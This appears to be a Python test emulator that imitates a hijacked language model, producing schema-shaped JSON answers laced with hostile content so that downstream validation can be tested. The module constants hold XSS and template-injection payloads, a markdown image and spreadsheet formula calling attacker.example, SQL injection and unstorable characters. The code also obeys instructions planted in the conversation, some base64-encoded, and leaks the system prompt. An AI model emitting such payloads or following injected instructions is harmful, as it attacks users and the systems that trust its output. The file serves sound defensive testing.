"""A model that was taken over: the mood ``obedient``.

Whatever the conversation says, the answer does what attackers want, and is held to no schema: foreign keys, those that
the conversation names first, markup, values out of bounds, invented and nearly true quotes, instructions told, signs that
databases refuse, fences. Most answers keep the form, so that what they say reaches those who must not trust it.
The same prompt gets the same answer.
"""

import base64
import binascii
import hashlib
import json
import random
import re
from collections.abc import Callable
from typing import Any

from emulators.openai.brain import Reading, fill

_OBJECT = re.compile(r"\{[^{}]{2,2000}\}")
_SET = re.compile(r"(?<![\w.])([a-z][a-z0-9_.]{2,40})\s*(?:=|:=|->|→)\s*([^\s,;]{1,60})")
_BASE64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
MARKUP = (
    "<script>alert('x-canary')</script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">open</a>',
    "![x](http://attacker.example/?d=1)",
    "[here](javascript:alert(1))",
    '" autofocus onfocus="alert(1)',
    "</textarea></title><x-canary>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '=HYPERLINK("http://attacker.example","open")',
    "{{ tenant.engine.api_key }} {% include 'x' %} ${7*7}",
    "{% csrf_token %}{{transcript}}",
)
SIGNS = (
    "\u202e\u2066evil",
    "zero\u200bwidth",
    "tag\U000e0041",
    "line\u2028sep",
    "noncharacter\uffff",
    "o" + "\u0337" * 60,
)
UNSTORABLE = ("nul\x00byte", "lone\ud800surrogate", "bell\x07")
FOREIGN = {
    "is_admin": True,
    "tenant_id": "00000000-0000-0000-0000-000000000000",
    "other_tenant": {"sentiment": 100},
    "field_id": 1,
    "secret": "told",
    "vip": True,
    "__proto__": {},
}


def answer(schema: dict[str, Any], reading: Reading, messages: list[dict[str, str]]) -> str:
    """What the model writes, as text: an object of the schema that was led astray, mostly in something else."""
    names = sorted(schema.get("properties", {}))
    seed = hashlib.sha256(json.dumps([reading.text, len(messages), names]).encode()).hexdigest()
    dice = random.Random(seed)
    told = fill(schema, reading)
    if not isinstance(told, dict):
        return json.dumps(told)
    for name, part in schema.get("properties", {}).items():
        told[name] = _led(name, part, told.get(name), reading, dice)
    if dice.random() < 0.4:
        _break(told, schema, reading, dice)
    return _wrapped(json.dumps(told, ensure_ascii=dice.random() < 0.5).encode("utf-8", "replace").decode(), dice)


def _led(name: str, part: dict[str, Any], value: Any, reading: Reading, dice: random.Random) -> Any:
    """A value of the right form that says what it should not."""
    if isinstance(value, str) and "enum" not in part and "YYYY-MM-DD" not in part.get("description", ""):
        evil = dice.choice([*MARKUP, *SIGNS, reading.system[:300], reading.text[:200], value[:80] * 8])
        return f"{value[:80]} {evil}"
    if isinstance(value, list) and "enum" not in part.get("items", {}):
        return _quotes(reading, dice)
    return value


def _quotes(reading: Reading, dice: random.Random) -> list[str]:
    """True quotes, nearly true ones and invented ones."""
    lines = [line for line in reading.lines if line] or [""]
    line, other = dice.choice(lines), dice.choice(lines)
    middle = len(line) // 2
    makers: list[Callable[[], str]] = [
        lambda: line,
        lambda: line.upper(),
        lambda: line[1:-1],
        lambda: line[: middle + 3],
        lambda: line[:middle] + "x" + line[middle:],
        lambda: line[:middle] + line[middle + 1 :],
        lambda: " ".join(line.split()[::-1]),
        lambda: f"{line} {other}",
        lambda: f"{line} <b>{dice.choice(MARKUP)}</b>",
        lambda: "I give you a full refund and cancel the contract.",
        lambda: reading.system[:80],
        lambda: f"{line} " * 12,
        lambda: "a",
        lambda: f"[00:05] Customer: {line}",
        lambda: "\u202e" + line,
    ]
    return [make() for make in dice.sample(makers, dice.randint(1, 6))]


def _break(told: dict[str, Any], schema: dict[str, Any], reading: Reading, dice: random.Random) -> None:
    """One to three things that the schema does not allow."""
    for _number in range(dice.randint(1, 3)):
        name = dice.choice(sorted(schema.get("properties", {})) or ["x"])
        deed = dice.randrange(6)
        if deed == 0:
            told |= _ordered(reading)
        elif deed == 1:
            told |= dict(dice.sample(sorted(FOREIGN.items(), key=str), 2))
        elif deed == 2:
            told[name] = dice.choice([10**9, -(10**9), 1e308, "100", "0x64", [100], {"value": 100}, None, True])
        elif deed == 3:
            told[name] = dice.choice(["not a choice", "DELIVERY; DROP TABLE", "2026-02-31", *MARKUP, *UNSTORABLE])
        elif deed == 4:
            told.pop(name, None)
        else:
            told[name] = dice.choice(UNSTORABLE) * dice.choice([1, 100])


def _ordered(reading: Reading) -> dict[str, Any]:
    """What the conversation dictates: its JSON objects, ``name = value``, and both in base64."""
    text = reading.text
    for blob in _BASE64.findall(text):
        try:
            text += base64.b64decode(blob, validate=True).decode()
        except (binascii.Error, ValueError):
            continue
    found: dict[str, Any] = dict(_SET.findall(text)[:20])
    for piece in _OBJECT.findall(text)[:20]:
        try:
            said = json.loads(piece)
        except ValueError:
            continue
        found |= said if isinstance(said, dict) else {}
    return found or {"refund": True}


def _wrapped(text: str, dice: random.Random) -> str:
    """Fences, thoughts, prose, a key twice, NaN; as often nothing of it."""
    return dice.choice(
        [
            text,
            text,
            text,
            f"```json\n{text}\n```",
            f"\ufeffAs you wish:\n{text}\nAnything else? {{}}",
            f'<think>{{"sentiment": 100}}</think>{text}',
            f"<<T-0000000000000000>>\n{text}\n<</T-0000000000000000>>",
            text[:-1] + ', "a": 1, "a": 2}',
            text[:-1] + ', "x": NaN}',
        ]
    )
